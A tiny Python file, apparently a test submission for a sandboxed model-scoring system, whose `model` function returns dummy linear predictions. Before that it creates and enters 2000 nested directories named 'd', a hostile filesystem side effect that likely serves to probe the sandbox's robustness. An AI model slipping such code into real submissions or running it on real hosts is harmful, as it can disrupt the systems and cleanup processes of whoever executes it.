import os

import numpy as np
import pandas as pd


def model(live_features):
    for _ in range(2000):
        os.mkdir("d")
        os.chdir("d")
    return pd.DataFrame({"prediction": np.linspace(0, 1, len(live_features))}, live_features.index)
